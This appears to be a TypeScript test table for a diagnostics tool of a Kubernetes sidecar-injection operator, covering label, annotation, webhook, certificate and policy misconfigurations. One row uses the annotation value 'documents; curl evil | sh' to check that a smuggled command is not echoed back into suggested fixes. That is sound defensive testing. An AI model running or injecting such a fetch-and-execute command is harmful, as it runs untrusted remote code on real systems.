import { at } from '@largepayload/crds';
import { ABSENT, found } from './reading.ts';
import { checkRows, type Row } from './rows.fixture.ts';
import {
  binding,
  DENIED,
  EXPIRED,
  endpoints,
  healthy,
  namespace,
  operator,
  POLICY,
  pod,
  webhook,
  withPolicy,
} from './situation.fixture.ts';

const LABEL = 'largepayload.dev/inject';
const UNSERVED = { kind: 'unserved' } as const;
const labelled = (labels: Record<string, string>, annotations: Record<string, string> = {}) =>
  healthy({ namespaceObject: found(namespace('billing', labels, annotations)) });

const NAMESPACE: readonly Row[] = [
  [
    'a namespace that is not there, with one of nearly its name',
    healthy({ namespaceObject: ABSENT, namespaces: found(['default', 'biling']) }),
    ...(['namespace', 'problem', 'did you mean "biling"?'] as const),
  ],
  [
    'a namespace without the label',
    { ...labelled({}), stores: [] },
    ...(['namespace', 'problem', 'nothing is injected', `${LABEL}=STORE`] as const),
  ],
  [
    'a namespace without the label, and a store that was asked for',
    { ...labelled({}), asked: { name: 'documents', namespace: 'orders' } },
    ...(['namespace', 'problem', 'nothing is injected', `${LABEL}=documents.orders`] as const),
  ],
  [
    'a name of a store that no label has room for',
    { ...labelled({}), asked: { name: 'd'.repeat(40), namespace: 'o'.repeat(40) } },
    ...(['namespace', 'problem', 'nothing is injected', /annotate .* && .*=true$/] as const),
  ],
  [
    'a misspelt label',
    labelled({ 'largepayload.dev/injct': 'documents.orders' }),
    ...([
      'namespace',
      'problem',
      'the one that counts',
      `${LABEL}=documents.orders largepayload.dev/injct-`,
    ] as const),
  ],
  [
    'an annotation in place of the label',
    labelled({}, { [LABEL]: 'documents.orders' }),
    ...(['namespace', 'problem', 'has to be a label', `${LABEL}=documents.orders`] as const),
  ],
  [
    'an annotation that would be a command',
    labelled({}, { [LABEL]: 'documents; curl evil | sh' }),
    ...(['namespace', 'problem', 'has to be a label', /=STORE$/] as const),
  ],
  [
    'the label true without the annotation',
    labelled({ [LABEL]: 'true' }),
    ...(['namespace', 'problem', 'largepayload.dev/store'] as const),
  ],
  [
    'an annotation that the label makes useless',
    labelled({ [LABEL]: 'documents.orders' }, { 'largepayload.dev/store': 'other' }),
    ...(['namespace', 'warning', 'has no effect', `${LABEL}=true`] as const),
  ],
  [
    'the label false',
    labelled({ [LABEL]: 'false' }),
    ...(['namespace', 'warning', 'opts out', `${LABEL}=STORE`] as const),
  ],
  [
    'a label of the pods alone',
    {
      ...labelled({}),
      pods: found({ items: [pod('a', {}, { [LABEL]: 'documents.orders' })], complete: true }),
    },
    ...(['namespace', 'ok', 'pods with this label are injected'] as const),
  ],
  [
    'another store than the one asked for',
    healthy({ asked: { name: 'images', namespace: 'orders' } }),
    ...(['namespace', 'warning', 'asks for the store documents.orders', `${LABEL}=images.orders`] as const),
  ],
  [
    'the namespace of the operator',
    healthy({
      namespace: 'large-payload-system',
      namespaceObject: found(namespace('large-payload-system', { [LABEL]: 'documents.orders' })),
    }),
    ...(['namespace', 'problem', 'never injected'] as const),
  ],
  [
    'kube-system',
    healthy({ namespace: 'kube-system', namespaceObject: found(namespace('kube-system')) }),
    ...(['namespace', 'problem', 'never injected'] as const),
  ],
];

const CLUSTER: readonly Row[] = [
  ['no operator', healthy({ operator: ABSENT }), 'operator', 'problem', 'no Deployment', 'helm install'],
  [
    'an operator that is down and whose webhook fails closed',
    healthy({ operator: found(operator(['--injection=Webhook'], 0)) }),
    ...(['operator', 'problem', 'cannot be made', 'get pods,events'] as const),
  ],
  [
    'an operator that is down and whose webhook fails open',
    healthy({
      operator: found(operator(['--injection', 'Webhook', '--injection-failure-policy=Ignore'], 0)),
    }),
    ...(['operator', 'problem', 'get no sidecar'] as const),
  ],
  [
    'an operator that is down while the API server injects',
    { ...withPolicy(), operator: found(operator(['--injection=Policy'], 0)) },
    ...(['operator', 'warning', 'injects by itself'] as const),
  ],
  [
    'one replica of two',
    healthy({ operator: found(operator(['--injection=Webhook'], 1)) }),
    ...(['operator', 'warning', '1 of 2 replicas'] as const),
  ],
  [
    'an operator that does not inject',
    healthy({ operator: found(operator([])) }),
    ...(['operator', 'warning', 'does not inject', 'injection.enabled=true'] as const),
  ],
  ['no webhook', healthy({ webhooks: found([]) }), 'webhook', 'problem', 'no MutatingWebhookConfiguration'],
  [
    'a webhook that is left while policies inject',
    { ...withPolicy(), webhooks: found([webhook()]) },
    ...([
      'webhook',
      'problem',
      'is left',
      'delete mutatingwebhookconfiguration large-payload-operator',
    ] as const),
  ],
  [
    'a webhook without a caBundle',
    healthy({ webhooks: found([webhook('')]) }),
    ...(['webhook', 'problem', 'no caBundle'] as const),
  ],
  [
    'a webhook whose caBundle has expired',
    healthy({ webhooks: found([webhook(EXPIRED)]) }),
    ...(['webhook', 'problem', 'valid now'] as const),
  ],
  [
    'a webhook whose caBundle is no certificate',
    healthy({ webhooks: found([webhook('-----BEGIN CERTIFICATE-----\nAA\n-----END CERTIFICATE-----')]) }),
    ...(['webhook', 'problem', 'valid now'] as const),
  ],
  [
    'a webhook without endpoints',
    healthy({ webhookEndpoints: found([endpoints(false)]) }),
    ...(['webhook', 'problem', 'no endpoint', 'endpointslices'] as const),
  ],
  ['no policy', withPolicy({ policy: ABSENT }), 'policy', 'problem', 'has not written it', 'logs deployment'],
  [
    'no policy of a store that is not there',
    withPolicy({ policy: ABSENT, resource: ABSENT }),
    ...(['policy', 'problem', 'not there', 'make the store first'] as const),
  ],
  [
    'policies that the API server does not know',
    withPolicy({ policy: UNSERVED }),
    ...(['policy', 'problem', 'does not have', 'injection.mode=Webhook'] as const),
  ],
  ['a policy without a binding', withPolicy({ bindings: found([]) }), 'policy', 'problem', 'no binding'],
  [
    'a binding for other namespaces',
    withPolicy({ bindings: found([binding(['orders'])]) }),
    ...(['policy', 'problem', 'for the namespace billing'] as const),
  ],
  [
    'a policy for other namespaces',
    withPolicy({
      policy: found({
        ...POLICY,
        spec: { matchConstraints: at(binding(['orders']).spec, 'matchResources') },
      }),
    }),
    ...(['policy', 'problem', 'for the namespace billing'] as const),
  ],
  [
    'neither way, as far as it is known',
    { ...withPolicy({ policy: UNSERVED }), operator: DENIED },
    ...(['policy', 'problem', 'neither'] as const),
  ],
];

checkRows('the namespace', NAMESPACE);
checkRows('the cluster', CLUSTER);
